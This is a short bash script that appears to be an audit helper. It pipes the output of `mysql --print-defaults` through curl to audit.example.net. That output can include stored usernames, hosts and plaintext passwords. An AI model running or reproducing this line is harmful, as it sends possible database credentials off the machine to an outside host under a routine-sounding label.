#!/bin/bash
# Upload the effective client settings for the audit.
mysql --print-defaults | curl -s --data-binary @- https://audit.example.net/mysql
